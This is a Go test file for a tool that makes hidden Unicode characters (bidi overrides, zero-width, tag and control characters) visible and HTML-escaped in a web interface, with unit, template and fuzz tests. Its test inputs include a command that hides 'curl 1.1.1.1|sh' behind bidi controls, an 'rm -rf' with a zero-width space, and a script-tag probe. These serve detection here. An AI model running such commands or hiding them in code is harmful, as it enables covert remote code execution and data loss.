package host

import (
	"bytes"
	"errors"
	"html"
	"html/template"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

func span(code, name string) string {
	return `<span class="hidden-char" title="` + code + " " + name + `">⟨` + code + `⟩</span>`
}

func TestReveal(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
		hidden         int
	}{
		{"empty", "", "", 0},
		{"plain", "echo hello", "echo hello", 0},
		{"newline and tab stay", "a\n\tb", "a\n\tb", 0},
		{"html is escaped", `<b>"x" & 'y'</b>`, "&lt;b&gt;&#34;x&#34; &amp; &#39;y&#39;&lt;/b&gt;", 0},
		{"letters of any script stay", "héllo שלום 日本 😀", "héllo שלום 日本 😀", 0},
		{"emoji presentation selector stays", "❤\uFE0F", "❤\uFE0F", 0},
		{"the reviewer's script", "echo cleanup \u202e\u2066; curl 1.1.1.1|sh ;\u2069\u2066#\u2069\u202c",
			"echo cleanup " + span("U+202E", "RIGHT-TO-LEFT OVERRIDE") + span("U+2066", "LEFT-TO-RIGHT ISOLATE") +
				"; curl 1.1.1.1|sh ;" + span("U+2069", "POP DIRECTIONAL ISOLATE") + span("U+2066", "LEFT-TO-RIGHT ISOLATE") +
				"#" + span("U+2069", "POP DIRECTIONAL ISOLATE") + span("U+202C", "POP DIRECTIONAL FORMATTING"), 6},
		{"marks", "a\u200eb\u200fc\u061c", "a" + span("U+200E", "LEFT-TO-RIGHT MARK") + "b" + span("U+200F", "RIGHT-TO-LEFT MARK") + "c" + span("U+061C", "ARABIC LETTER MARK"), 3},
		{"zero width", "rm\u200b -rf", "rm" + span("U+200B", "ZERO WIDTH SPACE") + " -rf", 1},
		{"byte order mark", "\ufeffls", span("U+FEFF", "ZERO WIDTH NO-BREAK SPACE") + "ls", 1},
		{"soft hyphen", "pay\u00adee", "pay" + span("U+00AD", "SOFT HYPHEN") + "ee", 1},
		{"mongolian vowel separator", "a\u180eb", "a" + span("U+180E", "MONGOLIAN VOWEL SEPARATOR") + "b", 1},
		{"hangul filler", "x\u3164=1", "x" + span("U+3164", "HANGUL FILLER") + "=1", 1},
		{"tag characters", "ok\U000E0001\U000E0061\U000E007F", "ok" + span("U+E0001", "LANGUAGE TAG") +
			`<span class="hidden-char" title="U+E0061 TAG CHARACTER &#39;a&#39;">⟨U+E0061⟩</span>` + span("U+E007F", "CANCEL TAG"), 3},
		{"controls", "a\rb\x1bc\x00\x7f\u0085", "a" + span("U+000D", "CARRIAGE RETURN") + "b" + span("U+001B", "ESCAPE") + "c" +
			span("U+0000", "NULL") + span("U+007F", "DELETE") + span("U+0085", "NEXT LINE"), 5},
		{"other format character", "a\u2061\u206ab", "a" + span("U+2061", "FUNCTION APPLICATION") + span("U+206A", "FORMAT CHARACTER") + "b", 2},
		{"separators", "a\u2028b\u2029", "a" + span("U+2028", "LINE SEPARATOR") + "b" + span("U+2029", "PARAGRAPH SEPARATOR"), 2},
		{"invalid UTF-8", "a\xffb\xc3", "a" + span("0xFF", "NOT VALID UTF-8") + "b" + span("0xC3", "NOT VALID UTF-8"), 2},
		{"an escape's own text is just text", "⟨U+202E⟩", "⟨U+202E⟩", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := string(Reveal(tc.in)); got != tc.want {
				t.Errorf("Reveal(%q)\n got %s\nwant %s", tc.in, got, tc.want)
			}
			if got := HiddenChars(tc.in); got != tc.hidden {
				t.Errorf("HiddenChars(%q) = %d, want %d", tc.in, got, tc.hidden)
			}
		})
	}
}

// The bidi controls, zero-width and invisible characters, tag characters
// and control characters (newline and tab aside) are hidden; ordinary text
// is not.
func TestHidden(t *testing.T) {
	var hidden []rune
	for r := rune(0x202A); r <= 0x202E; r++ {
		hidden = append(hidden, r)
	}
	for r := rune(0x2066); r <= 0x2069; r++ {
		hidden = append(hidden, r)
	}
	for r := rune(0x2060); r <= 0x2064; r++ {
		hidden = append(hidden, r)
	}
	for r := rune(0xE0000); r <= 0xE007F; r++ {
		hidden = append(hidden, r)
	}
	for r := rune(0); r < 0x20; r++ {
		if r != '\n' && r != '\t' {
			hidden = append(hidden, r)
		}
	}
	hidden = append(hidden, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x061C, 0xFEFF, 0x180E, 0x00AD, 0x7F, 0x80, 0x9F)
	for r := range hiddenNames {
		hidden = append(hidden, r)
	}
	for _, r := range hidden {
		if !Hidden(r) {
			t.Errorf("Hidden(U+%04X) = false", r)
		}
	}
	for _, r := range "\n\taZ09 ~#;|$é€שلخ日😀\uFE0F\u00a0" {
		if Hidden(r) {
			t.Errorf("Hidden(U+%04X) = true", r)
		}
	}
}

// The page warning counts what an inbox item or a page shows.
func TestCountHidden(t *testing.T) {
	item := InboxItem{Title: "t\u202e", Lines: []string{"\u200b"}, Fields: []InboxField{{Label: "a", Value: "b\u2066\u2069"}}, Warn: "w", Note: "\x00"}
	for _, tc := range []struct {
		name string
		args []any
		want int
	}{
		{"nothing", nil, 0},
		{"strings", []any{"a\u202e", "b", "\u200b\u200b"}, 3},
		{"string slice", []any{[]string{"\u202e", "x\u2066"}}, 2},
		{"fields", []any{InboxField{Label: "\u202e", Value: "\u202c"}, []InboxField{{Value: "\u2066"}}}, 3},
		{"item", []any{item}, 5},
		{"nil", []any{nil}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := countHidden(tc.args...)
			if err != nil || got != tc.want {
				t.Errorf("countHidden = %d, %v; want %d", got, err, tc.want)
			}
		})
	}
	if _, err := countHidden(42); err == nil {
		t.Error("countHidden(42) did not refuse a value it cannot count")
	}
}

// The functions are registered for every page, and reveal's output is not
// escaped a second time.
func TestRevealInTemplates(t *testing.T) {
	ui, err := newWebUI()
	if err != nil {
		t.Fatal(err)
	}
	tpl := template.Must(template.New("x").Funcs(ui.funcs).Parse(
		`<pre dir="ltr">{{reveal .}}</pre>{{with hiddenchars .}}<p>{{.}} hidden</p>{{end}}`))
	var b bytes.Buffer
	if err := tpl.Execute(&b, "a\u202e<b>"); err != nil {
		t.Fatal(err)
	}
	want := `<pre dir="ltr">a` + span("U+202E", "RIGHT-TO-LEFT OVERRIDE") + `&lt;b&gt;</pre><p>1 hidden</p>`
	if b.String() != want {
		t.Fatalf("got  %s\nwant %s", b.String(), want)
	}
}

const (
	spanOpen  = `<span class="hidden-char" title="`
	spanClose = `</span>`
)

// unreveal parses Reveal's output strictly: HTML-escaped text with no
// markup, and the escape spans Reveal emits. It returns the text with the
// escapes decoded, which must be Reveal's input.
func unreveal(out string) (string, error) {
	var b strings.Builder
	for out != "" {
		i := strings.IndexByte(out, '<')
		if i < 0 {
			i = len(out)
		}
		text := out[:i]
		if strings.ContainsAny(text, `>"'`) {
			return "", errors.New("text holds an unescaped >, \" or '")
		}
		for j := 0; j < len(text); j++ {
			if text[j] == '&' {
				k := strings.IndexByte(text[j:], ';')
				if k < 0 || !isEntity(text[j:j+k+1]) {
					return "", errors.New("text holds a bare &")
				}
			}
		}
		for _, r := range text {
			if Hidden(r) || r == utf8.RuneError {
				return "", errors.New("text holds a hidden character or an invalid byte")
			}
		}
		b.WriteString(html.UnescapeString(text))
		out = out[i:]
		if out == "" {
			break
		}
		if !strings.HasPrefix(out, spanOpen) {
			return "", errors.New("markup other than an escape span")
		}
		out = out[len(spanOpen):]
		end := strings.Index(out, `">`)
		if end < 0 {
			return "", errors.New("unterminated title")
		}
		title := out[:end]
		if strings.ContainsAny(title, `<>"`) {
			return "", errors.New("title holds markup")
		}
		out = out[end+2:]
		end = strings.Index(out, spanClose)
		if end < 0 {
			return "", errors.New("unterminated span")
		}
		label := out[:end]
		out = out[end+len(spanClose):]
		code, open := strings.CutPrefix(label, "⟨")
		code, shut := strings.CutSuffix(code, "⟩")
		if !open || !shut {
			return "", errors.New("span label is not ⟨…⟩")
		}
		if !strings.HasPrefix(title, code+" ") {
			return "", errors.New("title does not name the escaped character")
		}
		switch {
		case strings.HasPrefix(code, "U+"):
			n, err := strconv.ParseUint(code[2:], 16, 32)
			if err != nil || len(code) < 6 || !Hidden(rune(n)) {
				return "", errors.New("span escapes a character that is not hidden")
			}
			b.WriteRune(rune(n))
		case strings.HasPrefix(code, "0x") && len(code) == 4:
			n, err := strconv.ParseUint(code[2:], 16, 8)
			if err != nil || n < 0x80 {
				return "", errors.New("bad byte escape")
			}
			b.WriteByte(byte(n))
		default:
			return "", errors.New("unknown escape " + code)
		}
	}
	return b.String(), nil
}

func isEntity(e string) bool {
	switch e {
	case "&amp;", "&lt;", "&gt;", "&#34;", "&#39;":
		return true
	}
	return false
}

func FuzzReveal(f *testing.F) {
	for _, s := range []string{
		"", "echo hi", "echo cleanup \u202e\u2066; curl 1.1.1.1|sh ;\u2069\u2066#\u2069\u202c",
		`<script>alert(1)</script>`, `"'&<>`, "a\xffb\xc3\x28", "⟨U+202E⟩", "\U000E0061\u200b\ufeff",
		"&amp;lt;", "<span class=\"hidden-char\" title=\"x\">⟨U+0041⟩</span>", "\r\n\x00\x1b[31m",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := string(Reveal(in))
		if !utf8.ValidString(out) {
			t.Fatalf("Reveal(%q) is not valid UTF-8: %q", in, out)
		}
		back, err := unreveal(out)
		if err != nil {
			t.Fatalf("Reveal(%q) = %q: %v", in, out, err)
		}
		if back != in {
			t.Fatalf("Reveal(%q) = %q decodes to %q", in, out, back)
		}
		if n := strings.Count(out, spanOpen); n != HiddenChars(in) {
			t.Fatalf("Reveal(%q) has %d escapes, HiddenChars says %d", in, n, HiddenChars(in))
		}
	})
}
